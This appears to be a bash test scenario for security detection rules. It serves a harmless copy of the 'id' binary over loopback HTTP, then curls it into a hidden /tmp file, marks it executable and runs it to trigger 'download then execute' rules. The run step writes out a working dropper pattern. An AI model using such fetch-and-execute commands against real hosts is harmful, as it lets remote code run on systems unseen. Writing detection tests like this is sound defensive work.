#!/usr/bin/env bash
# Download and execute from /tmp: curl fetches a binary over loopback HTTP into /tmp, chmod +x, runs it.
# rules: Execution of a file downloaded to /tmp; Download then execute
[[ $0 == */* ]] && D=${0%/*} || D=.
. "$D/lib.sh"
setup() {
  mkdir -p "$SAMPLE_TMP/dl"
  cp /usr/bin/id "$SAMPLE_TMP/dl/payload"
  "$PY" -m http.server 18181 --bind 127.0.0.1 --directory "$SAMPLE_TMP/dl" >/dev/null 2>&1 &
  echo $! > "$SAMPLE_TMP/dl.pid"
  wait_listen "" 18181
}
run() {
  curl -s -m 5 -o /tmp/.peregrine-dropper http://127.0.0.1:18181/payload &&
    chmod +x /tmp/.peregrine-dropper &&
    /tmp/.peregrine-dropper >/dev/null
  local rc=$?
  rm -f /tmp/.peregrine-dropper
  return $rc
}
cleanup() {
  [ -f "$SAMPLE_TMP/dl.pid" ] && kill "$(cat "$SAMPLE_TMP/dl.pid")" 2>/dev/null
  rm -rf "$SAMPLE_TMP/dl" "$SAMPLE_TMP/dl.pid" /tmp/.peregrine-dropper
}
scenario_main "$@"
